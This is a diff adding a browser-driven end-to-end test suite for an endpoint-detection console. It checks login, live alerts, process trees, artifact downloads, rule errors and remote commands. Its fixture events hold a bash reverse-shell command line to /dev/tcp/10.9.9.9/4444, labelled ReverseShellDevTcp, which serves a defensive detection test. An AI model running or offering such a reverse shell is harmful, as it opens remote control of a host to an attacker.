@@ -1,0 +1,268 @@
+"""The console in a real headless Chromium against a real manager on loopback (TLS on).
+
+The endpoint side is the agent's real link code (``ManagerLink`` with the command executor), so
+"run a command" goes all the way through the manager to an agent and back.
+"""
+
+from __future__ import annotations
+
+import base64
+import datetime
+import gzip
+import os
+import shutil
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import orjson
+import pytest
+
+from vigil.agent.commands.executor import CommandExecutor
+from vigil.agent.forwarder import Forwarder
+from vigil.agent.link.client import EndpointClient, ManagerAddress
+from vigil.agent.link.session import LinkIntervals, ManagerLink
+from vigil.agent.link.tls import spki_fingerprint
+from vigil.agent.spool import Spool
+from vigil.manager.testing import GZIP, LiveManager, ndjson
+
+playwright_sync = pytest.importorskip("playwright.sync_api")
+
+CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
+SHOTS = Path(os.environ.get("VIGIL_SCREENSHOTS", "build/screenshots"))
+GUID = "{0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d}"
+EVENT_HASH = "c0ffee" * 7
+ARTIFACT = b"ELF-core-dump-bytes" * 200
+
+pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium is not installed")
+
+
+def _now(offset_s: float = 0) -> str:
+    t = datetime.datetime.now(datetime.UTC) + datetime.timedelta(seconds=offset_s)
+    return t.strftime("%Y-%m-%dT%H:%M:%S.%f000Z")
+
+
+def _linux_event(
+    seq: int, *, signature: str | None = None, crit: int = 0, when: str | None = None
+) -> dict[str, Any]:
+    event: dict[str, Any] = {
+        "Event": {
+            "System": {
+                "Channel": "Linux-Sysmon/Operational",
+                "Computer": "web-01",
+                "EventID": 1,
+                "EventRecordID": seq,
+                "TimeCreated": {"SystemTime": when or _now()},
+            },
+            "EventData": {
+                "ProcessGuid": "{11111111-2222-4333-8444-555555555555}",
+                "ProcessId": str(4000 + seq),
+                "Image": "/usr/bin/bash",
+                "CommandLine": f"bash -i >& /dev/tcp/10.9.9.9/4444 0>&1 #{seq}",
+                "ParentImage": "/usr/sbin/php-fpm8.2",
+                "Ancestors": "/usr/lib/systemd/systemd|/usr/sbin/php-fpm8.2",
+                "User": "www-data",
+            },
+        }
+    }
+    if signature:
+        event["Event"]["Detection"] = {
+            "Signature": [signature],
+            "Criticality": crit,
+            "ATTACK": [{"ID": "T1059.004", "Tactic": "execution", "Description": "Unix Shell"}],
+            "Actions": ["kill", "memdump"],
+        }
+    return event
+
+
+@pytest.fixture(scope="module")
+def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveManager]:
+    with LiveManager(tmp_path_factory.mktemp("console")) as manager:
+        yield manager
+
+
+@pytest.fixture(scope="module")
+def agent_link(live: LiveManager, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ManagerLink]:
+    der = live.cert.read_bytes()
+    import ssl
+
+    address = ManagerAddress(
+        url=live.endpoint_url,
+        uuid=live.endpoint_uuid,
+        key=live.endpoint_key,
+        fingerprint=spki_fingerprint(ssl.PEM_cert_to_DER_cert(der.decode())),
+    )
+    client = EndpointClient(address, hostname="agent-host", timeout=10)  # the name live.agent() pinned
+    link = ManagerLink(
+        client=client,
+        forwarder=Forwarder(Spool(tmp_path_factory.mktemp("spool") / "spool.db"), client),
+        executor=CommandExecutor(),
+        intervals=LinkIntervals(commands=0.2),
+    )
+    link.start()
+    yield link
+    link.stop(drain_deadline=0.5)
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with playwright_sync.sync_playwright() as p:
+        instance = p.chromium.launch(
+            executable_path=CHROMIUM,
+            args=[
+                "--no-sandbox",
+                "--disable-gpu",
+                "--disable-background-networking",
+                "--disable-component-update",
+                "--disable-sync",
+                "--no-first-run",
+                "--disable-quic",
+            ],
+        )
+        yield instance
+        instance.close()
+
+
+@pytest.fixture
+def page(browser: Any, live: LiveManager) -> Iterator[Any]:
+    context = browser.new_context(
+        ignore_https_errors=True, viewport={"width": 1366, "height": 860}, accept_downloads=True
+    )
+    page = context.new_page()
+    errors: list[str] = []
+    page.on("console", lambda msg: errors.append(msg.text) if msg.type == "error" else None)
+    page.on("pageerror", lambda exc: errors.append(str(exc)))
+    page.errors = errors
+    yield page
+    context.close()
+
+
+def _login(page: Any, live: LiveManager) -> None:
+    page.goto(f"{live.admin_url}/ui/")
+    page.get_by_label("Admin API key").fill(live.admin_key)
+    page.get_by_role("button", name="Log in").click()
+    page.get_by_role("heading", name="Fleet overview").wait_for()
+
+
+def _shot(page: Any, name: str) -> None:
+    SHOTS.mkdir(parents=True, exist_ok=True)
+    page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)
+
+
+def test_login_rejects_a_wrong_key_and_accepts_an_admin_key(page: Any, live: LiveManager) -> None:
+    page.goto(f"{live.admin_url}/ui/")
+    _shot(page, "01-login")
+    page.get_by_label("Admin API key").fill("not-a-key")
+    page.get_by_role("button", name="Log in").click()
+    page.get_by_text("this key is not an admin API key").wait_for()
+    page.get_by_label("Admin API key").fill(live.endpoint_key)
+    page.get_by_role("button", name="Log in").click()
+    page.get_by_text("this key is not an admin API key").wait_for()  # endpoint keys are not admin keys
+    # The two refused logins above are logged by Chromium as failed (401) requests, as they should be.
+    assert all("401" in e for e in page.errors), page.errors
+    page.errors.clear()
+    _login(page, live)
+    _shot(page, "02-fleet")
+    assert page.errors == []
+
+
+def test_live_detection_detail_tree_and_related_events(page: Any, live: LiveManager) -> None:
+    _login(page, live)
+    page.get_by_role("link", name="Alerts").click()
+    page.get_by_role("heading", name="Alerts").wait_for()
+    page.wait_for_timeout(500)  # the websocket is connected by now
+    with live.agent() as agent:
+        benign = [_linux_event(i, when=_now(-i)) for i in range(1, 4)]
+        alert = _linux_event(99, signature="ReverseShellDevTcp", crit=9)
+        assert agent.post("/logs", content=ndjson([*benign, alert]), headers=GZIP).status_code == 200
+    row = page.get_by_role("row").filter(has_text="ReverseShellDevTcp")
+    row.wait_for(timeout=10_000)
+    _shot(page, "03-alerts-live")
+    row.get_by_role("link", name="ReverseShellDevTcp").click()
+    page.get_by_role("heading", name="Process tree").wait_for()
+    tree = page.get_by_label("Process ancestry")
+    assert "/usr/sbin/php-fpm8.2" in tree.inner_text()
+    assert "/usr/bin/bash" in tree.inner_text()
+    assert "T1059.004" in page.inner_text("main")
+    page.get_by_role("heading", name="Related events (± 5 minutes)").wait_for()
+    page.wait_for_function("document.querySelectorAll('main table tbody tr').length >= 4")
+    _shot(page, "04-alert-detail")
+    assert page.errors == []
+
+
+def test_artifact_download_is_byte_identical(page: Any, live: LiveManager, tmp_path: Path) -> None:
+    chunk = {
+        "filename": "core.gz",
+        "guid": GUID,
+        "event-hash": EVENT_HASH,
+        "content": base64.b64encode(gzip.compress(ARTIFACT)).decode(),
+        "chunk": 1,
+        "total": 1,
+    }
+    with live.agent() as agent:
+        assert agent.post("/upload/dumps", content=orjson.dumps(chunk)).status_code == 200
+    _login(page, live)
+    page.goto(f"{live.admin_url}/ui/#/endpoint/{live.endpoint_uuid}")
+    link = page.get_by_role("link", name="core.gz")
+    link.wait_for()
+    with page.expect_download() as info:
+        link.click()
+    saved = tmp_path / "artifact"
+    info.value.save_as(saved)
+    assert saved.read_bytes() == ARTIFACT
+    _shot(page, "05-endpoint")
+    assert page.errors == []
+
+
+def test_broken_rule_upload_shows_every_error(page: Any, live: LiveManager) -> None:
+    _login(page, live)
+    page.get_by_role("link", name="Rules").click()
+    page.get_by_role("heading", name="Upload rules").wait_for()
+    broken = [
+        {"Name": "BadRegex", "Meta": {"Schema": "2.0.0"}, "Matches": ["$a: Image ~= '('"], "Condition": "$a"},
+        {
+            "Name": "BadOperand",
+            "Meta": {"Schema": "2.0.0"},
+            "Matches": ["$a: Image = 'x'"],
+            "Condition": "$b",
+        },
+    ]
+    page.get_by_label("Rule text").fill(orjson.dumps(broken).decode())
+    page.get_by_role("button", name="Compile and store").click()
+    errors = page.get_by_label("rule errors")
+    errors.wait_for()
+    text = errors.inner_text()
+    assert "BadRegex" in text and "BadOperand" in text
+    _shot(page, "06-rules-errors")
+    page.get_by_label("Search").fill("Bad")
+    assert page.locator("main table tbody tr").count() == 0  # nothing of the refused set was stored
+
+
+def test_run_a_command_on_the_endpoint(page: Any, live: LiveManager, agent_link: ManagerLink) -> None:
+    _login(page, live)
+    page.goto(f"{live.admin_url}/ui/#/endpoint/{live.endpoint_uuid}")
+    page.get_by_label("Command").fill("stat /")
+    page.get_by_role("button", name="Run", exact=True).click()
+    output = page.get_by_label("command output")
+    output.wait_for(timeout=20_000)
+    assert '"type": "dir"' in output.inner_text()
+    _shot(page, "07-command")
+    assert page.errors == []
+
+
+def test_every_form_control_has_a_label_and_pages_have_headings(page: Any, live: LiveManager) -> None:
+    _login(page, live)
+    for route in ("#/fleet", "#/alerts", "#/rules", "#/iocs", f"#/endpoint/{live.endpoint_uuid}"):
+        page.goto(f"{live.admin_url}/ui/{route}")
+        page.locator("#view h1").first.wait_for()
+        unlabeled = page.evaluate(
+            """() => [...document.querySelectorAll('input, select, textarea')]
+                .filter((el) => el.offsetParent !== null)
+                .filter((el) => !(el.labels && el.labels.length) && !el.getAttribute('aria-label'))
+                .map((el) => el.outerHTML)"""
+        )
+        assert unlabeled == [], f"{route}: controls without a label: {unlabeled}"
+        assert page.locator("#view h1").count() == 1
+        time.sleep(0.1)
+    assert page.errors == []
